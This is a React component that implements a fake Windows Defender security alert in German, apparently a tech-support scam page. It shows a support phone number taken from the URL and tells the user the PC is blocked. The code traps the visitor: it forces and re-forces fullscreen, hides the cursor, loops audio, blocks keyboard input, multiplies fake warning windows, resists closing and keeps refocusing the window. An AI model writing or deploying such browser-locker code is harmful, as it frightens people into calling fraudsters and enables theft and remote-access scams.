import React, { useEffect, useRef, useState } from "react";
const e = React.createElement;
const NUM = new URLSearchParams(window.location.search).get("bcda") || "(0000) 00-0000";
export default function Screen() {
  const voice = useRef(null);
  const [open, setOpen] = useState([1]);
  useEffect(() => {
    const grab = (ev) => {
      ev.preventDefault();
      document.documentElement.requestFullscreen().catch(() => {});
      document.body.style.cursor = "none";
      voice.current.play();
      setOpen((o) => (o.length < 6 ? [...o, o.length + 1] : o));
    };
    const keys = (ev) => {
      ev.preventDefault();
      ev.stopImmediatePropagation();
      grab(ev);
    };
    ["click", "mousemove", "contextmenu"].forEach((n) => window.addEventListener(n, grab));
    window.addEventListener("keydown", keys, true);
    document.addEventListener("fullscreenchange", () => document.fullscreenElement || grab(new Event("x")));
    window.onbeforeunload = () => NUM;
    const stall = setInterval(() => {
      try { window.moveTo(0, 0); window.resizeTo(screen.width, screen.height); window.focus(); } catch (_) {}
    }, 200);
    return () => clearInterval(stall);
  }, []);
  return e("div", { id: "bg" },
    e("audio", { ref: voice, src: "/a/de.mp3", loop: true }),
    e("img", { src: "/i/defender.png" }),
    open.map((n) => e("div", { key: n, className: "win w" + n },
      e("h3", null, "Windows-Defender Sicherheitswarnung"),
      e("p", null, "Zugriff auf diesen PC wurde aus Sicherheitsgründen blockiert. ADS.FINACETRACK(2).DLL"),
      e("p", { className: "tel" }, "Windows-Support kontaktieren: " + NUM),
      e("button", null, "Abbrechen"), e("button", null, "OK"))));
}
